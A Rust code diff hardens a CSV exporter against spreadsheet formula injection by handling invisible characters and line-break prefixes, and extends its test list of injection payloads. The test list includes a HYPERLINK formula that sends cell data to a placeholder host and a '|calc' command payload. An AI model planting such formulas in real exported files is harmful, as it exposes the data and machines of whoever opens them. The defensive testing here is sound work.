@@ -90,12 +90,14 @@ impl Sheet {
 }
 
 /// A cell of a CSV that no spreadsheet takes for a formula: one that would begin as such gets an apostrophe before it.
-/// Spaces and marks that nobody sees do not hide the beginning.
+/// Spaces and marks that nobody sees do not hide the beginning. What is judged is what is written: whatever cleaning
+/// drops must not have covered it.
 fn harmless(cell: &str) -> String {
     let clean = clean_line(cell);
     let is_seen = |c: &char| !is_unseen(*c) && (!c.is_whitespace() || matches!(c, '\t' | '\r' | '\n'));
-    let begins = cell.chars().find(is_seen);
-    match begins {
+    // Cleaning turns these into spaces; some spreadsheets mind them.
+    let first = cell.chars().find(is_seen).filter(|c| matches!(c, '\t' | '\r' | '\n'));
+    match first.or_else(|| clean.chars().find(is_seen)) {
         Some(
             '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠' | '−' | '﹣' | '﹢' | '﹦' | '﹫'
             | '|' | '%',
@@ -107,7 +109,7 @@ fn harmless(cell: &str) -> String {
 }
 
 fn is_unseen(c: char) -> bool {
-    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{61c}')
+    matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{61c}')
 }
 
 fn escaped(cell: &str) -> String {
@@ -132,7 +134,7 @@ mod tests {
 
     use super::*;
 
-    const PAYLOADS: [&str; 22] = [
+    const PAYLOADS: [&str; 28] = [
         "=1+1",
         "+1",
         "-1",
@@ -155,6 +157,12 @@ mod tests {
         "%0A=1",
         "|calc",
         "−1",
+        "\u{e0001}=HYPERLINK(\"http://x/?\"&A1)",
+        "\u{1}=1+1",
+        "\u{fff9}=1",
+        "\u{ad}=1",
+        "\u{180e}\u{1d173}=1",
+        "\u{1}\t=1",
     ];
 
     fn written(begin: impl Fn(File) -> io::Result<Sheet>) -> Vec<u8> {
